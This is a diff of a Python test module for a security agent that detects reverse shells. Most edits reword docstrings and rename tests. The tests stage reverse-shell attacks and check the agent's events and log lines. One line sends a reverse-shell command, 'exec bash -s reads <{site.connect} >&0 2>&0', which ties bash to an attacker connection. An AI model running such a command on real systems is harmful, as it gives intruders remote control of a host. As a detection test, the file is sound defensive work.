@@ -1,6 +1,6 @@
-"""Which wirings the instant scan finds while the agent watches, with every field of its events, and which it does not.
+"""The wirings that the instant scan finds, with every field of its events, and those that it does not find.
 
-All attacks are made on one running agent, most of them at once, and the tests look at what it has said in the end: a
+One agent watches all attacks, most of them at once, and the tests inspect its events and its log afterwards, because a
 pass of the instant scan takes seconds.
 """
 
@@ -36,7 +36,7 @@ from instant_attacks import (
 )
 from waiting import scaled
 
-# The clock that tells how long a process has been quiet knows whole seconds.
+# The scan measures in whole seconds how long a process has been quiet.
 LEAST_DELAY = 2.0
 DELAY_LIMIT = 60.0
 ATTEMPTS = 2
@@ -55,7 +55,7 @@ def is_free(address, port):
 
 
 def missing_for(attacker):
-    """The attacks that this host does not allow, and why."""
+    """The attacks that this host does not allow, with the reason."""
     missing = {name: f"{program} is not installed" for name, program in NEEDED.items() if not shutil.which(program)}
     if not is_free(attacker.host_ipv4, 22):
         missing[PORT_22] = "port 22 of this host is in use"
@@ -63,7 +63,7 @@ def missing_for(attacker):
 
 
 class Watch:
-    """An agent, what was done to the host before its eyes, and what it said."""
+    """An agent, the attacks while it runs, and its events and log."""
 
     def __init__(self, attacker, directory, cleanup):
         self.complete = True
@@ -96,7 +96,7 @@ class Watch:
         self.log = self.agent.log()
 
     def _await_agent_that_keeps_up(self):
-        """One that lags behind what the host starts would spread the orders over two passes."""
+        """Waits until the agent is not behind with process events; otherwise two passes would share the orders."""
         filtered = re.escape(f"Filter the child process of root.[pid={self.staged[ORPHAN].pid} ")
         for _ in range(KEEP_UP_ATTEMPTS if ORPHAN not in self.missing else 0):
             seen, began = len(re.findall(filtered, self.agent.log())), time.monotonic()
@@ -117,7 +117,7 @@ class Watch:
             self.login.converse(f"{ORDER}\n", ANSWER)
 
     def _second_orders(self, site):
-        """On connections that are known by now, but for one shell's, which has the same peer as before."""
+        """Orders on connections that the agent knows by now, and on a new connection of one shell to the same peer."""
         self.campaign.converse(READING, f"echo $((6*7))-e2e; exec bash -s reads <{site.connect} >&0 2>&0\n", ANSWER)
         self.campaign.look_again(READING)
         self.campaign.order([READING, DASH_READING, FED])
@@ -131,7 +131,7 @@ class Watch:
         self._await_events(FOUND_BY_PERIOD_SCAN, is_of_period_scan)
 
     def _await_events(self, names, wanted):
-        """Which of them have not come is for the tests to say."""
+        """Waits for the events. The tests report the missing ones."""
         names = [name for name in names if name not in self.missing]
         for name in names:
             self.expected.setdefault(name, self.campaign.expected(name))
@@ -148,7 +148,7 @@ class Watch:
         return self.events_about(pid, is_of_instant_scan)
 
     def logged(self, name, message):
-        """How many log lines say the message, in which %d is the attack's shell."""
+        """The number of log lines with the message; %d is the pid of the attack's shell."""
         return self.log.count(message % self.staged[name].pid)
 
 
@@ -157,8 +157,8 @@ def watch(attacker, tmp_path_factory):
     for attempt in range(ATTEMPTS):
         with contextlib.ExitStack() as cleanup:
             watch = Watch(attacker, tmp_path_factory.mktemp("instant"), cleanup)
-            # On a host that starts very much at just that moment, two passes share the attacks, and the second one
-            # knows the connections already.
+            # Retry if two passes shared the attacks, as on a very busy host: the second pass already knows the
+            # connections.
             if watch.complete or attempt + 1 == ATTEMPTS:
                 yield watch
                 return
@@ -171,7 +171,7 @@ def skip_if_missing(watch, name):
 
 @pytest.mark.parametrize("name", [*FOUND, FED])
 def test_found(watch, name):
-    """The child with a new connection, too, once that connection is known."""
+    """FED is found as well, once its child's connection is known."""
     skip_if_missing(watch, name)
     (event,) = watch.instant_events(watch.expected[name]["pid"])
     assert event["eventContent"] == watch.expected[name]
@@ -184,7 +184,7 @@ def test_silent(watch, name):
     assert watch.instant_events(watch.staged[name].pid) == []
 
 
-# What the agent finds out about a shell before it decides against an event.
+# Log lines that show that the agent recognised the shell and then decided against an event.
 HELD_BACK = {
     COMMAND: ("found type 1 rshell.[pid=%d]", "proc has busniess cmdline.[proc=%d]"),
     SCRIPT_FILE: ("found type 1 rshell.[pid=%d]", "proc has busniess cmdline.[proc=%d]"),
@@ -196,18 +196,18 @@ HELD_BACK = {
 
 
 @pytest.mark.parametrize("name", HELD_BACK)
-def test_finding_is_held_back(watch, name):
+def test_alarm_is_held_back(watch, name):
     assert [watch.logged(name, message) for message in HELD_BACK[name]] == [1] * len(HELD_BACK[name])
 
 
 @pytest.mark.parametrize("name", [name for name in SILENT if name not in HELD_BACK and name != FED])
-def test_silent_wiring_is_no_finding_at_all(watch, name):
+def test_silent_wiring_is_not_recognised(watch, name):
     skip_if_missing(watch, name)
     assert watch.logged(name, "rshell.[pid=%d]") + watch.logged(name, "rshell pid.[pid=%d]") == 0
     assert watch.logged(name, "find pty.[shell=%d ") == 0
 
 
-def test_shell_under_init_is_left_out_with_what_it_starts(watch):
+def test_shell_under_init_is_ignored_with_its_children(watch):
     skip_if_missing(watch, ORPHAN)
     assert watch.logged(ORPHAN, "Filter the child process of root.[pid=%d ppid=1]") > 0
 
@@ -226,18 +226,18 @@ def test_second_shell_on_a_connection_is_held_back(watch):
         assert f"found type 1 rshell.[pid={pid}]" in watch.log
 
 
-def test_connection_that_was_known_before_is_no_finding(watch):
+def test_connection_that_is_already_known_is_ignored(watch):
     assert watch.logged(DASH_READING, "found type 1 rshell.[pid=%d]") == 1
 
 
-def test_same_finding_is_reported_once_an_hour(watch):
+def test_same_finding_is_reported_once_per_hour(watch):
     assert watch.logged(READING, "found type 1 rshell.[pid=%d]") == 2
     assert str(watch.staged[READING].connection.inode) != watch.expected[READING]["inode"]
     assert len(watch.instant_events(watch.staged[READING].pid)) == 1
 
 
 @pytest.mark.parametrize("name", [*FOUND, *SILENT])
-def test_period_scan_finds_what_it_can_see_whatever_the_instant_scan_does(watch, name):
+def test_period_scan_finds_independently_of_the_instant_scan(watch, name):
     skip_if_missing(watch, name)
     events = watch.events_about(watch.staged[name].pid, is_of_period_scan)
     assert len(events) == (name in FOUND_BY_PERIOD_SCAN)
